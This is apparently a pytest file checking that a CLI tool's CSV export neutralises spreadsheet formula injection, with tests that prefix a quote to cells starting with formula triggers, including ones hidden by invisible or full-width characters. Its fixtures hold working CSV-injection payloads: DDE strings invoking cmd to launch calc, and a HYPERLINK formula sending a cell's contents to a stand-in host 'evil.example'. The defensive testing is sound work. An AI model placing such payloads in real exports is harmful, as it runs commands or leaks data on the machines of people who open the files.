"""CSV for people is formula-safe (issue 13, item 7): ``customers|skus|visits|slips list --csv``
and ``plan --csv`` put a ``'`` before a cell that Excel or WPS would run as a formula (OWASP:
= + - @ tab CR); ``--raw`` keeps every cell as stored, for scripts. One writer for all of them
(fieldbook.cli.output.write_table)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from cli_support import run

from fieldbook.cli.output import formula_safe
from fieldbook.core.journal import Journal
from fieldbook.core.master.catalog import SkuInput
from fieldbook.core.master.customers import CustomerInput
from fieldbook.core.slips.service import SlipInput

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (LINK, SUM, PLUS, MINUS)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(world: Journal) -> Journal:
    """A customer on the Monday route, a SKU, a visit and a slip, all named like formulas."""
    customer = world.customers.create(
        CustomerInput(
            code="H001",
            shop_name=LINK,
            owner_name=SUM,
            address=PLUS,
            notes=MINUS,
            route="周一线路",
            order_weekday=1,
        )
    )
    world.catalog.save(None, SkuInput("99900001", LINK, brand=SUM, wholesale_fen=1000))
    visit = world.visits.start(customer.id, at=datetime(2026, 11, 30, 8, 0))
    world.visits.save_answer(visit.id, "requests", PLUS)
    world.slips.create(SlipInput("other", "门头更换", customer.id), at=datetime(2026, 11, 30, 9, 0))
    return world


COMMANDS = {
    "customers": (["customers", "list"], (LINK, SUM, PLUS, MINUS)),
    "skus": (["skus", "list"], (LINK, SUM)),
    "plan": (["plan", "--date", "2026-11-30"], (LINK, PLUS)),
    "visits": (["visits", "list", "--from", "2026-11-30", "--to", "2026-11-30"], (LINK, PLUS)),
    "slips": (["slips", "list"], (LINK,)),
}


@pytest.mark.parametrize("name", list(COMMANDS))
def test_csv_neutralises_formulas_and_raw_keeps_them(
    name: str, hostile: Journal, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv, expected = COMMANDS[name]
    code, out, _ = run(capsys, "--db", str(db_path), *argv, "--csv")
    assert code == 0
    safe = cells(out)
    for text in expected:
        assert "'" + text in safe, (name, text)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in safe if cell)

    code, out, _ = run(capsys, "--db", str(db_path), *argv, "--raw")
    assert code == 0
    raw = cells(out)
    for text in expected:
        assert text in raw and "'" + text not in raw, (name, text)
    assert len(raw) == len(safe)  # same table, only the prefixes differ


def test_the_other_cells_are_unchanged_and_numbers_stay_numbers(
    hostile: Journal, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "--db", str(db_path), "customers", "list", "--csv")
    safe = list(csv.DictReader(io.StringIO(out)))
    code_raw, out, _ = run(capsys, "--db", str(db_path), "customers", "list", "--raw")
    raw = list(csv.DictReader(io.StringIO(out)))
    assert code == code_raw == 0
    assert len(safe) == len(raw) == 10
    for s, r in zip(safe, raw, strict=True):
        for key in s:
            assert s[key] == r[key] or s[key] == "'" + r[key]
    assert next(r for r in safe if r["客户编码"] == "M001")["客户名称"] == "周一店1"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # cleaned first: a CR is a line feed (quoted by csv)
        ("＝1+1", "'＝1+1"),  # full-width, as a Chinese input method types it
        ("-12", "-12"),  # a number is a number
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("", ""),
        ("张小便利店", "张小便利店"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        # white space or invisible characters before the trigger (LibreOffice trims them)
        (" =1+1", "' =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff\u2060 @SUM(1)", "'\u2060 @SUM(1)"),
        # small and full-width forms
        ("﹦1+1", "'﹦1+1"),
        ("﹢1+1", "'﹢1+1"),
        ("﹣1+1", "'﹣1+1"),
        ("＠SUM(1)", "'＠SUM(1)"),
        ("﹫SUM(1)", "'﹫SUM(1)"),
        # cleaned before the check: a control character removed cannot hide the trigger
        ("\x07=1+1", "'=1+1"),
        ("\x0b=1+1", "'\n=1+1"),
        ("x\x0b=1+1", "x\n=1+1"),  # one quoted two-line cell: Excel shows, never runs it
        (" 张小便利店", " 张小便利店"),
    ],
)
def test_formula_safe(cell: str, expected: str) -> None:
    assert formula_safe(cell) == expected


def test_tab_separated_output_is_unchanged_for_people(
    hostile: Journal, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "--db", str(db_path), "customers", "list", "--search", "H001")
    assert code == 0
    header, line = out.splitlines()
    assert header.startswith("客户编码\t") and line.split("\t")[2] == LINK


# Stored before the input cleaning existed (written straight into the file): line-breaking
# controls csv.writer does not quote, then the output stream turned into a line feed, so a
# new CSV row started with the raw formula.
STORED = {
    "V001": "x\x0b=1+1",
    "V002": "x\u2028=1+1",
    "V003": "x\x85=1+1",
    "V004": "x\x1c@SUM(4)",
    "V005": "x\r=1+1",
    "V006": "x\x0c-1+cmd|' /C calc'!A0",
    "V007": " =1+1",
    "V008": "\u3000=1+1",
    "V009": "\u00a0=1+1",
    "V010": "\u200b=1+1",
    "V011": "﹦1+1",
    "V012": "﹢1+1",
    "V013": "﹣1+1",
    "V014": "＠SUM(1)",
    "V015": "﹫SUM(1)",
    "V016": "\x0b=1+1",
}


def _visible(cell: str) -> str:
    import unicodedata

    text = "".join(
        c for c in cell if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf", "Zs"))
    )
    return unicodedata.normalize("NFKC", text)


@pytest.mark.parametrize("flag", ["--csv", "--raw"])
def test_stored_line_breaks_and_hidden_triggers_never_start_a_formula(
    flag: str, world: Journal, db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import sqlite3

    for code in STORED:
        world.customers.create(CustomerInput(code=code, shop_name=f"店{code}", notes="n"))
    world.close()
    with sqlite3.connect(db_path) as con:
        for code, text in STORED.items():
            con.execute(
                "UPDATE customers SET notes = ?, shop_name = ? WHERE code = ?", (text, text, code)
            )
    code, out, err = run(capsys, "--db", str(db_path), "customers", "list", flag)
    assert (code, err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 9 + len(STORED)  # no row split by a line break inside a cell
    by_code = {r["客户编码"]: r for r in rows}
    for key, text in STORED.items():
        for column in ("客户名称", "备注"):
            cell = by_code[key][column]
            if flag == "--csv" and _visible(text).startswith(("=", "+", "-", "@")):
                # the first visible character is the ' that keeps the formula from running
                assert _visible(cell) == "'" + _visible(text), (key, column, cell)
            else:
                assert _visible(cell) == _visible(text), (key, column, cell)
